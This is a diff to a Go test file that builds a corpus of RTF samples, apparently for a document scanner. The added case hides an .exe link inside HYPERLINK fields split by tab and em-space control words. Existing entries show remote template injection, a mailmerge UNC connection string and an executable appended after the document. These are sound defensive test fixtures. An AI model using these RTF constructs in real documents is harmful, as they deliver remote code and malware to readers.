@@ -112,11 +112,15 @@ func generatedCorpus(t *testing.T) map[string]string {
 			`{\sp{\sn wzName}{\sv Box 1}}}} end.` + docEnd,
 		// A damaged \sp (here \wp, an unknown word) leaves a name and value in no property.
 		"gen-shape-orphan-property.rtf": docStart + `Logo: {\shp{\*\shpinst\shpleft0\shptop0\shpright2000\shpbottom1000{\sp{\sn shapeType}{\sv 75}}{\wp{\sn pibName}{\sv http://198.51.100.7/logo.png}}}} end.` + docEnd,
-		"gen-template.rtf":              `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\template http://198.51.100.7/remote.dotm}\pard Template injection.\par}` + "\r\n",
-		"gen-mailmerge.rtf":             `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\mailmerge\mmmaintypeform{\*\mmconnectstr DSN=x;DBQ=\\\\198.51.100.7\\share\\x.mdb}{\*\mmquery SELECT * FROM x}}\pard Merge.\par}` + "\r\n",
-		"gen-trailing-data.rtf":         docStart + `Body.` + docEnd + "MZ\x90\x00\x03 payload after the document",
-		"gen-control-chars.rtf":         docStart + "Text with a NUL\x00 and a bell\x07 inside." + docEnd,
-		"gen-unicode.rtf":               docStart + `\uc1 \u35531?\u27714?\u26360? {\f0\'93\'fa\'96\'7b} text` + docEnd,
+		// Word splits field arguments at white space that control words stand for: every
+		// piece a reader could take as the target is judged.
+		"gen-hyperlink-space-words.rtf": docStart + `{\field{\*\fldinst HYPERLINK https://www.example.jp/\tab file://198.51.100.7/share/x.exe}{\fldrslt tab}} ` +
+			`{\field{\*\fldinst HYPERLINK https://www.example.jp/\emspace \\\\198.51.100.7\\share\\x.exe}{\fldrslt emspace}}` + docEnd,
+		"gen-template.rtf":      `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\template http://198.51.100.7/remote.dotm}\pard Template injection.\par}` + "\r\n",
+		"gen-mailmerge.rtf":     `{\rtf1\ansi{\fonttbl{\f0 Arial;}}{\*\mailmerge\mmmaintypeform{\*\mmconnectstr DSN=x;DBQ=\\\\198.51.100.7\\share\\x.mdb}{\*\mmquery SELECT * FROM x}}\pard Merge.\par}` + "\r\n",
+		"gen-trailing-data.rtf": docStart + `Body.` + docEnd + "MZ\x90\x00\x03 payload after the document",
+		"gen-control-chars.rtf": docStart + "Text with a NUL\x00 and a bell\x07 inside." + docEnd,
+		"gen-unicode.rtf":       docStart + `\uc1 \u35531?\u27714?\u26360? {\f0\'93\'fa\'96\'7b} text` + docEnd,
 
 		// Tolerated where Word and LibreOffice open the file and its meaning is clear.
 		"gen-unclosed-groups.rtf": docStart + `{\b never closed` + docEnd,
